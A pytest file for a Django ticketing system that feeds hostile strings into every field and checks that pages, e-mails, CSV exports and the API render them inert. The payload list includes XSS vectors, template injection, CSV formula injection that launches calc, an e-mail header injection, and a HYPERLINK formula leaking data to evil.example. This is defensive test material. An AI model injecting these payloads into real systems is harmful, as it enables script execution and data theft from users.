"""Hostile text typed into every field comes out inert everywhere it is shown.

Each payload of the corpus goes, at once, into a ticket's subject and description, replies,
hold and resolution notes, a rating comment, the customer's and the agent's display names, a
service (category) name and a file name. Then every page that shows them, every e-mail sent
about the ticket, the CSV exports and the API are read back:

- HTML (pages, the HTML part of e-mails) is parsed; no element or attribute from a payload may
  exist: no on* attribute anywhere, no javascript: link, no inline script or frame, and the
  payload must be there as text (escaped, not interpreted or evaluated as a template);
- e-mail subjects are one line;
- CSV cells never start with a character a spreadsheet reads as a formula;
- the API answers JSON (where the payload is just data) as application/json.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import User
from tickets import notifications, services, workflow
from tickets.models import Category, Notification, Ticket
from tickets.status import Status
from tickets.text import one_line

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><details open ontoggle=alert(1)>",
    '" autofocus onfocus="alert(1)',
    '<a href="javascript:alert(1)">click me</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><body onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<ScRiPt >alert(1)</sCrIpT>",
    "\u202e<script>alert(1)</script>\u200b",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ request.user.password }}{% debug %}{{ 7|add:7 }}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Broken\r\nBcc: victim@example.com",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The e-mails that quote what someone wrote (a reply or a note).
CARRY_THE_TEXT = {
    Notification.Event.REPLY,
    Notification.Event.ON_HOLD,
    Notification.Event.RESOLVED,
    Notification.Event.REOPENED,
}


class Page(HTMLParser):
    """The elements, attributes and text of an HTML document."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self._open: list[str] = []
        self.scripts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._open.append(tag)

    def handle_endtag(self, tag):
        if tag in self._open:
            while self._open and self._open.pop() != tag:
                pass

    def handle_data(self, data):
        if self._open and self._open[-1] == "script":
            self.scripts.append(data)
        else:
            self.text.append(data)


def assert_inert(html: str, where: str, *, shows: str | None = None) -> None:
    page = Page(html)
    for tag, attrs in page.elements:
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"{where}: <{tag} {handlers}>"
        for name in ("href", "src", "action", "formaction", "xlink:href", "data"):
            value = "".join(attrs.get(name, "").split()).lower()
            assert not value.startswith(("javascript:", "vbscript:", "data:text/html")), (
                f"{where}: <{tag} {name}={attrs[name]!r}>"
            )
        assert tag not in ("iframe", "object", "embed", "math", "mglyph"), f"{where}: <{tag}>"
        assert not (tag == "img" and attrs.get("src") == "x"), f"{where}: <img src=x>"
        assert not (tag == "script" and "src" not in attrs), f"{where}: inline <script>"
    assert not any("alert(" in script for script in page.scripts), f"{where}: script ran"
    if shows is not None:
        text = " ".join(" ".join(page.text).split())
        assert " ".join(shows.split()) in text, f"{where}: {shows!r} not shown as text"


# --- A ticket with the payload in every field ---------------------------------------------


def file_name_from(payload: str) -> str:
    """A file name carrying the payload (a name cannot hold a slash: it would be a folder)."""
    return payload.replace("/", "") + ".txt"


@pytest.fixture(params=PAYLOADS, ids=[f"p{i}" for i in range(len(PAYLOADS))])
def hostile(request, customer, agent, manager):
    payload = request.param
    User.objects.filter(pk__in=[customer.pk, agent.pk]).update(display_name=payload[:150])
    customer.refresh_from_db()
    agent.refresh_from_db()
    category = Category.objects.create(name=payload[:100], description=payload)
    ticket = services.ticket_create(
        customer=customer,
        created_by=customer,
        subject=payload,
        description=payload,
        category=category,
        attachments=[SimpleUploadedFile(file_name_from(payload), b"log", "text/plain")],
    )
    services.ticket_take(ticket_id=ticket.pk, agent=agent)
    workflow.transition(ticket_id=ticket.pk, to=Status.IN_PROGRESS, actor=agent)
    services.comment_add(ticket_id=ticket.pk, author=agent, body=payload)
    services.comment_add(ticket_id=ticket.pk, author=agent, body=payload, internal=True)
    workflow.transition(ticket_id=ticket.pk, to=Status.ON_HOLD, actor=agent, note=payload)
    services.comment_add(ticket_id=ticket.pk, author=customer, body=payload)
    workflow.transition(ticket_id=ticket.pk, to=Status.RESOLVED, actor=agent, note=payload)
    services.rating_add(ticket_id=ticket.pk, customer=customer, score=1, comment=payload)
    workflow.transition(
        ticket_id=ticket.pk, to=Status.IN_PROGRESS, actor=customer, note=payload, action="reopen"
    )
    ticket = Ticket.objects.get(pk=ticket.pk)
    return payload, ticket


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_pages_show_the_payload_as_text_only(hostile, customer, agent, manager):
    payload, ticket = hostile
    shown = one_line(payload)  # the subject as stored (the description keeps all of it)
    pages = [
        (customer, reverse("portal:ticket_list") + "?show=all", shown),
        (customer, reverse("portal:ticket_detail", args=[ticket.pk]), shown),
        (customer, reverse("profile"), None),
        (agent, reverse("agent:queue") + "?view=all", None),
        (agent, reverse("agent:ticket_detail", args=[ticket.pk]), shown),
        (manager, reverse("reports:report"), None),
        (manager, reverse("agent:ticket_detail", args=[ticket.pk]), shown),
    ]
    for user, url, expected_text in pages:
        response = signed_in(user).get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/html"), url
        assert_inert(response.content.decode(), url, shows=expected_text)


def test_the_file_name_is_shown_as_text_only(hostile, customer, agent):
    _payload, ticket = hostile
    name = ticket.attachments.get().original_name
    for user, url in [
        (customer, reverse("portal:ticket_detail", args=[ticket.pk])),
        (agent, reverse("agent:ticket_detail", args=[ticket.pk])),
    ]:
        assert_inert(signed_in(user).get(url).content.decode(), url, shows=name)


def test_every_email_is_inert(hostile):
    payload, ticket = hostile
    sent = Notification.objects.filter(ticket=ticket)
    assert {n.event for n in sent} >= {
        Notification.Event.RECEIVED,
        Notification.Event.REPLY,
        Notification.Event.ON_HOLD,
        Notification.Event.RESOLVED,
        Notification.Event.REOPENED,
    }
    for notification in sent:
        message = notifications.render(notification)
        where = f"{notification.event} e-mail to {notification.recipient.email}"
        assert "\n" not in message.subject and "\r" not in message.subject, where
        message.message()  # the headers can be built: no BadHeaderError from the subject
        [(html, mimetype)] = message.alternatives
        assert mimetype == "text/html"
        carries_payload = notification.event in CARRY_THE_TEXT
        assert_inert(html, where, shows=payload if carries_payload else None)
        if carries_payload:  # plain text is inert as such; it must just not be evaluated
            assert " ".join(payload.split()) in " ".join(message.body.split()), where


def test_csv_exports_defuse_formulas(hostile, manager):
    client = signed_in(manager)
    for name in ("reports:tickets_csv", "reports:summary_csv"):
        response = client.get(reverse(name))
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        body = b"".join(response.streaming_content).decode()
        for row in csv.reader(io.StringIO(body)):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r}"


def test_the_tickets_csv_keeps_the_text_after_defusing(hostile, manager):
    _payload, ticket = hostile
    response = signed_in(manager).get(reverse("reports:tickets_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = [r for r in rows if r and r[0] == ticket.reference]
    stored = ticket.subject
    assert row[1] == ("'" + stored if stored.startswith(FORMULA_STARTS) else stored)


def test_the_api_returns_the_payload_as_json_data(hostile, customer, agent):
    payload, ticket = hostile
    for user, name in [
        (customer, "api:ticket-detail"),
        (customer, "api:ticket-comments"),
        (agent, "api:ticket-comments"),
        (customer, "api:ticket-attachments"),
    ]:
        response = signed_in(user).get(reverse(name, args=[ticket.pk]))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        assert response.json()  # well-formed JSON, whatever the text holds
    detail = signed_in(customer).get(reverse("api:ticket-detail", args=[ticket.pk])).json()
    assert detail["subject"] == one_line(payload)
